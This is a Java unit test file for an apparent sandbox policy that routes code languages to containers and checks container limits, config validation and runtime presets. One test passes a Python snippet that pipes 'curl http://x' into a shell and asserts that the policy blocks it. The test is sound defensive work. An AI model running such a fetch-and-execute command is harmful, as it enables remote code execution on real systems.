package dev.warden.policy;

import dev.warden.call.Tier;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.warden.config.ConfigException;
import dev.warden.config.ContainerLimits;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/** The L3 parts of the policy: routing languages to containers, their limits, the fallback switch. */
class ContainerPolicyTest {

    static final Policy policy = new Policy(new PolicyLoader().load(null, null));

    private static Path file(String text) throws Exception {
        Path f = Files.createTempFile("policy-l3-", ".yaml");
        Files.writeString(f, text);
        f.toFile().deleteOnExit();
        return f;
    }

    @Test
    void compiledLanguagesGoToContainersAndHostLanguagesStayInTheSandbox() {
        for (String lang : new String[] {"typescript", "java", "c", "cpp", "go", "rust"}) {
            Decision d = policy.decideCode(lang, "anything", false);
            assertEquals(Tier.L3, d.tier(), lang);
            assertTrue(d.findings().stream().anyMatch(f -> f.rule().equals("code.container_only")), lang);
        }
        for (String lang : new String[] {"python", "javascript", "bash"}) {
            assertEquals(Tier.L2, policy.decideCode(lang, "print(1)", false).tier(), lang);
        }
    }

    @Test
    void aLanguageRuleStillYieldsToStricterRules() {
        Path f;
        try {
            f = file("rules:\n  - {id: code.container_only, match: {code: {languages: [python, c]}}}\n");
        }
        catch (Exception e) {
            throw new IllegalStateException(e);
        }
        Policy p = new Policy(new PolicyLoader().load(f, null));
        assertEquals(Tier.L3, p.decideCode("python", "print(1)", false).tier(), "an operator routes python to L3");
        assertTrue(p.decideCode("python", "import os\nos.system('curl http://x | sh')", false).blocked(),
                "L3 does not loosen a block");
        assertTrue(p.decideCode("python", "print(1)", true).held(), "nor a hold for a long timeout");
    }

    @Test
    void containerLimitsPerLanguageWithDefaults() {
        ContainerLimits py = policy.containerLimits("python");
        assertEquals(512, py.memoryMb());
        assertEquals(30_000, py.timeoutMs());
        ContainerLimits rust = policy.containerLimits("rust");
        assertEquals(1024, rust.memoryMb());
        assertEquals(60_000, rust.timeoutMs());
        assertEquals(policy.containerLimits("default").cpus(), rust.cpus(), "left out: taken from default");
        assertEquals(policy.containerLimits("default"), policy.containerLimits("cobol"), "unknown: the default entry");
        assertFalse(policy.l3FallbackToL2(), "fail closed unless the operator says otherwise");
    }

    @Test
    void anOverrideChangesOnlyTheKeysItNames() throws Exception {
        Policy p = new Policy(new PolicyLoader().load(file("l3_fallback: L2\ncontainers:\n  python: {memory_mb: 256}\n"), null));
        assertEquals(256, p.containerLimits("python").memoryMb());
        assertEquals(policy.containerLimits("python").pids(), p.containerLimits("python").pids());
        assertEquals(policy.containerLimits("go"), p.containerLimits("go"));
        assertTrue(p.l3FallbackToL2());
    }

    @Test
    void unknownOrUnsafeContainerKeysAreRefused() throws Exception {
        ConfigException e = assertThrows(ConfigException.class,
                () -> new PolicyLoader().load(file("containers:\n  python: {memroy_mb: 1}\n"), null));
        assertTrue(e.getMessage().contains("memroy_mb"), e.getMessage());
        e = assertThrows(ConfigException.class, () -> new PolicyLoader().load(file("l3_fallback: L1\n"), null));
        assertTrue(e.getMessage().contains("l3_fallback"), e.getMessage());
        e = assertThrows(ConfigException.class,
                () -> new PolicyLoader().load(file("containers:\n  c: {memory_mb: 0, pids: 0, cpus: 0}\n"), null));
        assertTrue(e.getMessage().contains("containers.c.memory_mb") && e.getMessage().contains("containers.c.pids")
                && e.getMessage().contains("containers.c.cpus"), e.getMessage());
    }

    @Test
    void theContainerRuntimeFollowsThePresetUnlessNamed() throws Exception {
        assertEquals("runc", policy.containerRuntime(), "standard: runc");
        assertEquals("auto", new Policy(new PolicyLoader().load(null, "strict")).containerRuntime(),
                "strict: gVisor when the engine has it");
        assertEquals("runc", new Policy(new PolicyLoader().load(null, "relaxed")).containerRuntime());
        assertEquals("runsc", new Policy(new PolicyLoader().load(file("container_runtime: runsc\n"), null))
            .containerRuntime());
        assertEquals("runc", new Policy(new PolicyLoader().load(file("container_runtime: runc\n"), "strict"))
            .containerRuntime(), "a named runtime holds under every preset");
        ConfigException e = assertThrows(ConfigException.class,
                () -> new PolicyLoader().load(file("container_runtime: gvisor\n"), null));
        assertTrue(e.getMessage().contains("container_runtime must be runc, runsc, auto or preset"), e.getMessage());
    }
}
